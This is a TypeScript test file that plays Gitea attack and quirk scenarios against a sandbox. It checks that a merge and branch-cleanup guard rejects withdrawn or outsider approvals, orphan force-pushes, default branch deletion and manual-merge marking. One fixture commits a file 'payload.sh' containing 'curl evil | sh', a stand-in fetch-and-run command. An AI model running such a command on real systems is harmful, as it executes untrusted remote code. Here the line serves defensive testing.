// Issue 12, points 1-5 and 13: the guards read every live fact the way Gitea 1.27 means it. Each
// scenario is an attack or a quirk of real Gitea, played through the official MCP SDK client against
// the sandbox, which follows Gitea's own code where the guards lean on it (src/sandbox/review-rules.ts,
// handlers/pulls.ts, handlers/branches.ts, model.ts; docs/gitea-semantics.md).
import { after, before, describe, test } from 'node:test';
import assert from 'node:assert/strict';
import { writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { stringify } from 'yaml';
import { defaultSeed } from '../src/sandbox/index.js';
import { payloadOf, tempDir } from './support/namespace.js';
import { connectInProcess, type InProcessConnection } from './support/in-process.js';
import { sandboxClient } from './support/sandbox-client.js';
import { startContractSandbox, type ContractSandbox } from './support/spec-contract.js';

const where = { owner: 'acme', repo: 'widgets' };
const dir = tempDir('warden-e2e-gitea-guards-');
const WATCHERS = 50;
let sandbox: ContractSandbox;
let author: InProcessConnection;
let reviewer: InProcessConnection;
let outsider: InProcessConnection;
let merger: InProcessConnection;
let reconciler: InProcessConnection;
let owner: InProcessConnection;
const connections: InProcessConnection[] = [];

async function connect(profile: string, env: Record<string, string>): Promise<InProcessConnection> {
  const connection = await connectInProcess({
    GITEA_URL: sandbox.url,
    GITEA_MCP_PROFILE: profile,
    AUDIT_LOG: join(dir.path, `${connections.length}.jsonl`),
    LOG_LEVEL: 'silent',
    ...env,
  });
  connections.push(connection);
  return connection;
}

const token = (login: string): string => sandbox.users[login]?.token ?? '';

before(async () => {
  const seed = defaultSeed();
  // mallory has no role in acme: the public repository gives her read access, which is all the review API asks.
  seed.users.push({ login: 'mallory', full_name: 'Mallory Outsider' });
  for (let i = 0; i < WATCHERS; i++) seed.users.push({ login: `watcher${i}` });
  sandbox = await startContractSandbox({ seed });
  const outsiderProfile = join(dir.path, 'outsider-reviewer.yaml');
  writeFileSync(
    outsiderProfile,
    stringify({
      profile_name: 'outsider-reviewer',
      role: 'reviewer',
      authenticated_username: 'mallory',
      token_source_name: 'MALLORY_TOKEN',
      allowed_operations: ['gitea.read', 'gitea.pr.approve', 'gitea.pr.request_changes'],
      forbidden_operations: ['gitea.pr.merge', 'gitea.pr.force_merge', 'gitea.branch.push', 'gitea.repo.commit'],
    }),
  );
  author = await connect('gitea-author', { GITEA_AUTHOR_TOKEN: token('alice') });
  reviewer = await connect('gitea-reviewer', { GITEA_REVIEWER_TOKEN: token('bob') });
  outsider = await connect(outsiderProfile, { MALLORY_TOKEN: token('mallory') });
  merger = await connect('gitea-merger', { GITEA_MERGER_TOKEN: token('carol') });
  reconciler = await connect('gitea-reconciler', { GITEA_RECONCILER_TOKEN: token('dave') });
  owner = await connect('gitea-owner', { GITEA_OWNER_TOKEN: token('admin') });
});

after(async () => {
  for (const connection of connections) await connection.close();
  await sandbox.close();
  dir.dispose();
});

async function call(
  ns: InProcessConnection,
  name: string,
  args: Record<string, unknown>,
): Promise<Record<string, any>> {
  return payloadOf(await ns.client.callTool({ name, arguments: args }));
}

/** Requests to Gitea matching method and path made while `action` ran. */
async function requestsDuring(method: string, path: RegExp, action: () => Promise<unknown>): Promise<number> {
  const start = sandbox.requests.length;
  await action();
  return sandbox.requests.slice(start).filter((r) => r.method === method && path.test(r.path)).length;
}

const failedCodes = (payload: Record<string, any>): string[] =>
  (payload.error?.failed ?? []).map((f: { code: string }) => f.code);
const failedFact = (payload: Record<string, any>, code: string): string =>
  (payload.error?.failed ?? []).find((f: { code: string }) => f.code === code)?.fact ?? '';

let branches = 0;
/** alice's new branch off `base` with one new file, and her pull request from it into `base`. */
async function openPull(base = 'main'): Promise<{ index: number; branch: string; head: string }> {
  const branch = `feature/issue12-${++branches}`;
  const content = Buffer.from(`change ${branches}\n`).toString('base64');
  const file = await call(author, 'gitea_contents_create_file', {
    ...where,
    filepath: `src/change-${branches}.js`,
    body: { content, branch: base, new_branch: branch, message: `Change ${branches}` },
  });
  assert.equal(file.error, undefined, JSON.stringify(file.error));
  const opened = await call(author, 'gitea_pulls_create', {
    ...where,
    body: { head: branch, base, title: `Change ${branches}` },
  });
  assert.equal(typeof opened.data?.number, 'number', JSON.stringify(opened));
  return { index: opened.data.number, branch, head: opened.data.head.sha };
}

async function review(
  ns: InProcessConnection,
  index: number,
  event: 'APPROVED' | 'REQUEST_CHANGES',
  commit: string,
): Promise<void> {
  const answer = await call(ns, 'gitea_pulls_create_review', {
    ...where,
    index,
    body: { event, body: `${event} by test`, commit_id: commit },
  });
  assert.equal(answer.error, undefined, JSON.stringify(answer.error));
}

async function merge(
  index: number,
  head: string,
  extra: Record<string, unknown> = {},
): Promise<{ payload: Record<string, any>; sent: number }> {
  let payload: Record<string, any> = {};
  const sent = await requestsDuring('POST', new RegExp(`/pulls/${index}/merge$`), async () => {
    payload = await call(merger, 'gitea_pulls_merge', {
      ...where,
      index,
      body: { do: 'merge', head_commit_id: head, ...extra },
    });
  });
  return { payload, sent };
}

/** A push by someone with a shell: the branch moves to a new commit with no parent, sharing no history. */
function forcePushOrphan(branch: string): string {
  const repo = sandbox.state.repo('acme', 'widgets');
  assert.ok(repo);
  const orphan = sandbox.state.addCommit(repo, {
    parents: [],
    message: 'Unrelated history',
    author: { name: 'Alice Author', email: 'alice@example.invalid', login: 'alice' },
    date: sandbox.state.timestamp(),
    tree: { 'payload.sh': 'curl evil | sh\n' },
  });
  sandbox.state.moveBranch(repo, branch, orphan.sha);
  return orphan.sha;
}

function cleanupArgs(index: number, branch: string): Record<string, unknown> {
  return { ...where, pr_number: index, branch, confirmation: `CLEANUP MERGED PR ${index} BRANCH ${branch}` };
}

describe('1. only official, current, latest approvals count', () => {
  test('an approval withdrawn by a later REQUEST_CHANGES does not count, and the request for changes blocks', async () => {
    const pr = await openPull();
    await review(reviewer, pr.index, 'APPROVED', pr.head);
    await review(reviewer, pr.index, 'REQUEST_CHANGES', pr.head);
    const { payload, sent } = await merge(pr.index, pr.head, { delete_branch_after_merge: false });
    assert.equal(payload.error?.kind, 'policy_denied', JSON.stringify(payload));
    assert.deepEqual(failedCodes(payload), ['no_independent_approval', 'changes_requested']);
    assert.match(failedFact(payload, 'changes_requested'), /\/pulls\/\{index\}\/reviews.*official/);
    assert.equal(sent, 0, 'no merge reached Gitea');
    // Gitea's own flags agree: SubmitReview left only the latest verdict official.
    const listed = await call(merger, 'gitea_pulls_list_reviews', { ...where, index: pr.index });
    assert.deepEqual(
      listed.data.map((r: any) => [r.state, r.official, r.dismissed]),
      [
        ['APPROVED', false, true],
        ['REQUEST_CHANGES', true, false],
      ],
    );
  });

  test("a read-only outsider's approval is not official and does not count; the reviewer's does", async () => {
    const pr = await openPull();
    await review(outsider, pr.index, 'APPROVED', pr.head);
    const refused = await merge(pr.index, pr.head, { delete_branch_after_merge: false });
    assert.deepEqual(failedCodes(refused.payload), ['no_independent_approval']);
    assert.match(refused.payload.error.failed[0].message, /not official.*mallory/);
    assert.equal(refused.sent, 0);

    await review(reviewer, pr.index, 'APPROVED', pr.head);
    const merged = await merge(pr.index, pr.head, { delete_branch_after_merge: false });
    assert.equal(merged.payload.error, undefined, JSON.stringify(merged.payload.error));
    assert.equal(merged.sent, 1);
  });
});

describe('2. landed means proven ancestry, not "0 commits ahead"', () => {
  test("Gitea's compare answers total_commits 0 for histories that share nothing", async () => {
    const pr = await openPull();
    const orphan = forcePushOrphan(pr.branch);
    const compared = await call(reconciler, 'gitea_commits_compare_diff', { ...where, basehead: `main...${orphan}` });
    assert.equal(compared.data.total_commits, 0);
  });

  test('a merged branch force-pushed to an orphan commit is not cleaned up (its head.sha is the live tip)', async () => {
    const pr = await openPull();
    await review(reviewer, pr.index, 'APPROVED', pr.head);
    assert.equal((await merge(pr.index, pr.head, { delete_branch_after_merge: false })).sent, 1);
    const orphan = forcePushOrphan(pr.branch);
    const merged = await call(reconciler, 'gitea_pulls_get', { ...where, index: pr.index });
    assert.equal(merged.data.head.sha, orphan, 'Gitea reports the live tip of a merged pull request');

    let payload: Record<string, any> = {};
    const deletes = await requestsDuring('DELETE', /\/branches\//, async () => {
      payload = await call(reconciler, 'gitea_cleanup_merged_pr_branch', cleanupArgs(pr.index, pr.branch));
    });
    assert.equal(payload.error?.reason, 'head_not_landed', JSON.stringify(payload));
    assert.deepEqual(failedCodes(payload), ['head_not_landed']);
    assert.match(failedFact(payload, 'head_not_landed'), /compare\/\{commit\}\.\.\.\{target\}/);
    assert.equal(deletes, 0);
    assert.equal(
      (await call(reconciler, 'gitea_branches_get', { ...where, branch: pr.branch })).data.commit.id,
      orphan,
    );
  });

  test('an open pull request force-pushed to an orphan commit is not closed as already landed', async () => {
    const pr = await openPull();
    forcePushOrphan(pr.branch);
    let payload: Record<string, any> = {};
    const edits = await requestsDuring('PATCH', /\/pulls\//, async () => {
      payload = await call(reconciler, 'gitea_reconcile_already_landed_pr', { ...where, pr_number: pr.index });
    });
    assert.deepEqual(failedCodes(payload), ['head_not_landed'], JSON.stringify(payload));
    assert.equal(edits, 0);
    assert.equal((await call(reconciler, 'gitea_pulls_get', { ...where, index: pr.index })).data.state, 'open');
  });
});

describe('3. a merge that names no delete_branch_after_merge does what the repository default says', () => {
  test('with the default on, the merge is judged as deleting its head branch and refused; naming false merges', async () => {
    const repo = sandbox.state.repo('acme', 'widgets');
    assert.ok(repo);
    // The repository admin turns on "delete pull request branch after merge by default".
    repo.defaultDeleteBranchAfterMerge = true;
    try {
      const pr = await openPull();
      await review(reviewer, pr.index, 'APPROVED', pr.head);
      const refused = await merge(pr.index, pr.head);
      assert.deepEqual(failedCodes(refused.payload), ['branch_deleted_by_default'], JSON.stringify(refused.payload));
      assert.match(failedFact(refused.payload, 'branch_deleted_by_default'), /default_delete_branch_after_merge/);
      assert.equal(refused.sent, 0);
      assert.equal((await call(merger, 'gitea_branches_get', { ...where, branch: pr.branch })).data?.name, pr.branch);

      const kept = await merge(pr.index, pr.head, { delete_branch_after_merge: false });
      assert.equal(kept.sent, 1, JSON.stringify(kept.payload));
      assert.equal(
        (await call(merger, 'gitea_branches_get', { ...where, branch: pr.branch })).data?.name,
        pr.branch,
        'the branch survived the merge',
      );
    } finally {
      repo.defaultDeleteBranchAfterMerge = false;
    }
  });
});

describe('4. the cleanup keeps a branch that CloseBranchPulls would close pull requests with', () => {
  test('a pull request stacked on the merged branch (its base) keeps the branch', async () => {
    const bottom = await openPull();
    await review(reviewer, bottom.index, 'APPROVED', bottom.head);
    const stacked = await openPull(bottom.branch);
    assert.equal((await merge(bottom.index, bottom.head, { delete_branch_after_merge: false })).sent, 1);

    let payload: Record<string, any> = {};
    const deletes = await requestsDuring('DELETE', /\/branches\//, async () => {
      payload = await call(reconciler, 'gitea_cleanup_merged_pr_branch', cleanupArgs(bottom.index, bottom.branch));
    });
    assert.deepEqual(failedCodes(payload), ['branch_in_use'], JSON.stringify(payload));
    assert.match(payload.error.failed[0].message, new RegExp(`#${stacked.index} \\(base\\)`));
    assert.match(failedFact(payload, 'branch_in_use'), /state=open/);
    assert.equal(deletes, 0);
    assert.equal((await call(reconciler, 'gitea_pulls_get', { ...where, index: stacked.index })).data.state, 'open');
  });

  test('deleting a branch in Gitea closes the pull requests based on it (what the guard protects against)', async () => {
    const bottom = await openPull();
    const stacked = await openPull(bottom.branch);
    const gitea = sandboxClient(sandbox);
    assert.equal((await gitea('DELETE', `/repos/acme/widgets/branches/${bottom.branch}`, { as: 'admin' })).status, 204);
    assert.equal((await gitea('GET', `/repos/acme/widgets/pulls/${stacked.index}`)).body.state, 'closed');
    assert.equal((await gitea('GET', `/repos/acme/widgets/pulls/${bottom.index}`)).body.state, 'closed');
  });
});

describe('5. do: manually-merged is its own operation, held by no reference role', () => {
  test('the merger and the owner are refused; Gitea would mark the pull request merged against any base commit', async () => {
    const repo = sandbox.state.repo('acme', 'widgets');
    assert.ok(repo);
    repo.allowManualMerge = true;
    try {
      const pr = await openPull();
      await review(reviewer, pr.index, 'APPROVED', pr.head);
      const mainTip = repo.branches.get('main') as string;
      const body = {
        do: 'manually-merged',
        merge_commit_id: mainTip,
        head_commit_id: pr.head,
        delete_branch_after_merge: false,
      };
      // The owner lists no generated tool for it (gitea.* minus what it forbids): it would try the raw tool.
      const attempts = [
        [merger, 'gitea_pulls_merge', { ...where, index: pr.index, body }, 'not_allowed'],
        [
          owner,
          'gitea_api_request',
          { method: 'POST', path: `/repos/acme/widgets/pulls/${pr.index}/merge`, body },
          'forbidden',
        ],
      ] as const;
      for (const [ns, tool, args, reason] of attempts) {
        let payload: Record<string, any> = {};
        const sent = await requestsDuring('POST', /\/merge$/, async () => {
          payload = await call(ns, tool, args);
        });
        assert.equal(payload.error?.kind, 'policy_denied', JSON.stringify(payload));
        assert.equal(payload.error?.reason, reason);
        assert.match(JSON.stringify(payload.error), /gitea\.pr\.mark_manually_merged/);
        assert.equal(sent, 0);
      }
      // What the operation does in Gitea (MergedManually): merged, against a commit that does not contain the head.
      const gitea = sandboxClient(sandbox);
      const marked = await gitea('POST', `/repos/acme/widgets/pulls/${pr.index}/merge`, {
        as: 'carol',
        body: { do: 'manually-merged', merge_commit_id: mainTip },
      });
      assert.equal(marked.status, 200);
      assert.equal((await gitea('GET', `/repos/acme/widgets/pulls/${pr.index}`)).body.merged, true);
      assert.equal(repo.branches.get('main'), mainTip, 'nothing landed');
    } finally {
      repo.allowManualMerge = false;
    }
  });
});

describe('13. the fact readers survive Gitea quirks', () => {
  test("a review page that comes back empty (others' pending reviews left out) does not end the list", async () => {
    const pr = await openPull();
    const repo = sandbox.state.repo('acme', 'widgets');
    const pull = repo?.issues.find((i) => i.number === pr.index)?.pull;
    assert.ok(pull);
    // Fifty users each started a review and left it pending: Gitea counts them, then shows nobody else's.
    for (let i = 0; i < WATCHERS; i++) {
      pull.reviews.push({
        id: sandbox.state.nextId('review'),
        user: `watcher${i}`,
        state: 'PENDING',
        body: '',
        commitId: pr.head,
        dismissed: false,
        official: false,
        stale: false,
        submitted: sandbox.state.timestamp(),
      });
    }
    await review(reviewer, pr.index, 'APPROVED', pr.head);
    const gitea = sandboxClient(sandbox);
    const first = await gitea('GET', `/repos/acme/widgets/pulls/${pr.index}/reviews?limit=50`, { as: 'carol' });
    assert.deepEqual([first.body.length, first.headers.get('x-total-count')], [0, String(WATCHERS + 1)]);
    const merged = await merge(pr.index, pr.head, { delete_branch_after_merge: false });
    assert.equal(merged.payload.error, undefined, JSON.stringify(merged.payload.error));
    assert.equal(merged.sent, 1);
  });

  test('after the head branch is deleted, head.ref reads refs/pull/N/head; the cleanup still knows the branch', async () => {
    const pr = await openPull();
    await review(reviewer, pr.index, 'APPROVED', pr.head);
    assert.equal((await merge(pr.index, pr.head, { delete_branch_after_merge: false })).sent, 1);
    const first = await call(reconciler, 'gitea_cleanup_merged_pr_branch', cleanupArgs(pr.index, pr.branch));
    assert.equal(first.action, 'deleted', JSON.stringify(first));
    const pull = await call(reconciler, 'gitea_pulls_get', { ...where, index: pr.index });
    assert.deepEqual(
      [pull.data.head.ref, pull.data.head.label, pull.data.head.sha],
      [`refs/pull/${pr.index}/head`, pr.branch, pr.head],
    );
    const again = await call(reconciler, 'gitea_cleanup_merged_pr_branch', cleanupArgs(pr.index, pr.branch));
    assert.deepEqual(
      failedCodes(again),
      ['fact_unavailable'],
      'only the branch itself is missing, it is still the PR head',
    );
    assert.match(failedFact(again, 'fact_unavailable'), /branches\/\{branch\}/);
  });

  test('stale is content-based: a push that leaves the diff alone keeps the approval fresh in Gitea, the guard still wants the exact head', async () => {
    const pr = await openPull();
    await review(reviewer, pr.index, 'APPROVED', pr.head);
    const repo = sandbox.state.repo('acme', 'widgets');
    assert.ok(repo);
    const head = repo.commits.get(pr.head);
    assert.ok(head);
    const same = sandbox.state.addCommit(repo, {
      parents: [pr.head],
      message: 'Empty commit',
      author: head.author,
      date: sandbox.state.timestamp(),
      tree: head.tree,
    });
    sandbox.state.moveBranch(repo, pr.branch, same.sha);
    const listed = await call(merger, 'gitea_pulls_list_reviews', { ...where, index: pr.index });
    assert.deepEqual(
      listed.data.map((r: any) => [r.commit_id, r.stale]),
      [[pr.head, false]],
    );
    const { payload, sent } = await merge(pr.index, same.sha, { delete_branch_after_merge: false });
    assert.deepEqual(failedCodes(payload), ['approval_stale']);
    assert.match(payload.error.failed[0].message, /on another commit than the head/);
    assert.equal(sent, 0);
  });

  test('a state change of a merged pull request is answered 412, and reported as such', async () => {
    const reopened = await call(author, 'gitea_pulls_edit', { ...where, index: 2, body: { state: 'open' } });
    assert.equal(reopened.error?.status, 412, JSON.stringify(reopened));
  });
});

test('every answer the sandbox gave in this file conforms to the pinned Gitea spec', () => {
  sandbox.assertConformed();
});
